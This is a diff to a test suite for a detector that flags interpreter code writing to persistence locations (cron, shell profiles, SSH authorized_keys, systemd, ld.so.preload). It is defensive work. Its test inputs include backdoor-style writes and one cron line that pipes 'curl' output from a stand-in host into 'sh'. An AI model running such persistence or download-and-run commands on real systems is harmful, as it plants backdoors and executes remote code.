@@ -68,6 +68,50 @@ describe('files interpreter code writes', () => {
     expect(writes('awk', '{ print ($1 > "/etc/cron.d/x") }')).toEqual([]);
   });
 
+  it('reads path objects, the home directory, and relative paths in the directory the code changed to', () => {
+    const py = (code: string): readonly string[] => writes('python', `from pathlib import Path\nimport os\n${code}`);
+    expect(py("(Path.home() / '.ssh' / 'authorized_keys').open('a').write(k)")).toEqual(['~/.ssh/authorized_keys']);
+    expect(py("p = Path.home() / '.bashrc'\np.write_text(x)")).toEqual(['~/.bashrc']);
+    expect(py("open(Path('/etc/cron.d') / 'x', 'w').write(y)")).toEqual(['/etc/cron.d/x']);
+    expect(py("d = Path('/etc/systemd')\n(d / 'system' / 'k.service').write_text(u)")).toEqual(['/etc/systemd/system/k.service']);
+    expect(py("Path('/etc/cron.d', 'x').write_text(y)")).toEqual(['/etc/cron.d/x']);
+    expect(py("Path('~/.bashrc').expanduser().write_text(y)")).toEqual(['~/.bashrc']);
+    expect(py("Path('/etc').joinpath('cron.d', 'x').touch()")).toEqual(['/etc/cron.d/x']);
+    expect(py("os.chdir('/etc/cron.d')\nopen('x', 'w').write(y)")).toEqual(['/etc/cron.d/x']);
+    expect(py("os.chdir('/etc')\nos.chdir('cron.d')\nPath('./x').write_text(y)")).toEqual(['/etc/cron.d/x']);
+    expect(writes('python', "from os import chdir\nchdir(os.path.expanduser('~'))\nopen('.ssh/authorized_keys', 'a')")).toEqual(['~/.ssh/authorized_keys']);
+    expect(writes('ruby', "File.open(File.expand_path('~/.bashrc'), 'a') { |f| f.puts x }")).toEqual(['~/.bashrc']);
+    expect(writes('ruby', 'File.write(File.join(Dir.home, ".ssh/authorized_keys"), k, mode: "a")')).toEqual(['~/.ssh/authorized_keys']);
+    expect(writes('ruby', "Dir.chdir('/etc/cron.d') { File.write('x', y) }")).toEqual(['/etc/cron.d/x']);
+    expect(writes('ruby', "Pathname.new('/etc/rc.local').write(x)")).toEqual(['/etc/rc.local']);
+    expect(writes('js', "const fs = require('fs'), os = require('os'), path = require('path'); fs.appendFileSync(path.join(os.homedir(), '.bashrc'), x)")).toEqual(['~/.bashrc']);
+    expect(writes('js', "process.chdir('/etc/cron.d'); require('fs').writeFileSync('x', y)")).toEqual(['/etc/cron.d/x']);
+    expect(writes('php', "chdir('/etc/cron.d'); file_put_contents('x', $y);")).toEqual(['/etc/cron.d/x']);
+    expect(writes('perl', 'chdir "/root/.ssh"; open(F, ">>authorized_keys")')).toEqual(['/root/.ssh/authorized_keys']);
+    // Not writes, or not there: string methods, reads, a directory not known, one changed to after the write.
+    expect(py("s = '/etc/cron.d/x'\ns.replace('/etc', '/tmp')\nstr(Path(s)).replace('a', '/etc/cron.d/y')")).toEqual([]);
+    expect(py("print(Path('/etc/cron.d/x').read_text())\nos.chdir('/etc/cron.d')\nprint(open('x').read())")).toEqual([]);
+    expect(py("os.chdir(workdir)\nopen('metrics.json', 'w')")).toEqual(['metrics.json']);
+    expect(py("open('out.json', 'w')\nos.chdir('/etc/cron.d')")).toEqual(['out.json']);
+    expect(py("n = total / 2\nopen(n, 'w')")).toEqual([]);
+  });
+
+  it('reads .NET writers in PowerShell and relative paths after Set-Location', () => {
+    const ps = (line: string): readonly string[] => persists(['pwsh', '-NoProfile', '-Command', line]);
+    expect(ps("[IO.File]::WriteAllText('/etc/cron.d/x', $c)")).toEqual(['cron']);
+    expect(ps('[System.IO.File]::AppendAllText("$HOME/.bashrc", "sh /tmp/k")')).toEqual(['profile']);
+    expect(ps("[IO.File]::Copy('/tmp/k.service', '/etc/systemd/system/k.service', $true)")).toEqual(['systemd']);
+    expect(ps("$w = New-Object System.IO.StreamWriter('/root/.ssh/authorized_keys', $true); $w.WriteLine($k); $w.Close()")).toEqual(['authorized_keys']);
+    expect(ps("$s = [IO.FileStream]::new('/etc/ld.so.preload', [IO.FileMode]::OpenOrCreate)")).toEqual(['ld-preload']);
+    expect(ps("$f = [IO.File]::Open('/etc/rc.local', 'Open', 'ReadWrite')")).toEqual(['rc']);
+    expect(ps('Set-Location /etc/cron.d; Set-Content -Path x -Value $c')).toEqual(['cron']);
+    expect(ps('sl -Path /root/.ssh; Add-Content authorized_keys $k')).toEqual(['authorized_keys']);
+    // Reads, and copies out of a persistence place, write none.
+    expect(ps("[IO.File]::ReadAllText('/etc/crontab'); $f = [IO.File]::Open('/etc/rc.local', 'Open', 'Read'); [IO.File]::Copy('/root/.bashrc', '/tmp/b')")).toEqual([]);
+    expect(ps("$r = New-Object IO.StreamReader('/root/.ssh/authorized_keys'); Set-Location /etc/cron.d; Get-Content x")).toEqual([]);
+    expect(execRuleIds(['pwsh', '-c', "[IO.File]::AppendAllText('/root/.ssh/authorized_keys', $k)"], SA)).toContain('MLS-RAY-016');
+  });
+
   it('puts written persistence places in attrs.exec.persists, and only those', () => {
     expect(persists(['python3', '-c', "open('/etc/cron.d/x','w').write('* * * * * root curl -s http://e/x|sh\\n')"])).toEqual(['cron']);
     expect(persists(['python3', '-c', "import os;open(os.path.expanduser('~/.bashrc'),'a').write('sh /tmp/k')"])).toEqual(['profile']);
@@ -105,7 +149,7 @@ describe('files interpreter code writes', () => {
 
   it('stays bounded and never throws on random code', () => {
     const rnd = mulberry32(20261124);
-    const parts = ["open('/etc/cron.d/", "', 'w')", 'File.write(', 'fopen(', '>>', 'print ', '(', ')', ',', '"', "'", 'os.path.join(', 'p = ', '\n', ';', '.write_text(', 'Path(', 'copy(', 'x'];
+    const parts = ["open('/etc/cron.d/", "', 'w')", 'File.write(', 'fopen(', '>>', 'print ', '(', ')', ',', '"', "'", 'os.path.join(', 'p = ', '\n', ';', '.write_text(', 'Path(', 'copy(', 'x', ' / ', 'Path.home()', 'os.chdir(', 'chdir ', '.expanduser()', '.joinpath('];
     const langs: Lang[] = ['python', 'perl', 'ruby', 'php', 'js', 'lua', 'awk'];
     for (let n = 0; n < 300; n++) {
       let code = '';
@@ -114,6 +158,9 @@ describe('files interpreter code writes', () => {
       expect(w.length).toBeLessThanOrEqual(MAX_WRITES);
       expect(new Set(w).size).toBe(w.length);
     }
+    // Joins of names assigned once fan out: without the step bound this code took 38 s (measured), with it ~10 ms.
+    const joins = (n: string): string => Array.from({ length: 128 }, () => n).join(' / ');
+    expect(writes('python', `from pathlib import Path\na = ${joins('b')}\nb = ${joins('a')}\nopen(${joins('a')}, 'w')\n(${joins('b')}).write_text(x)`)).toEqual([]);
     const many = Array.from({ length: 40 }, (_, i) => `open('/tmp/f${i}', 'w')`).join('\n');
     expect(writes('python', many)).toHaveLength(MAX_WRITES);
   });
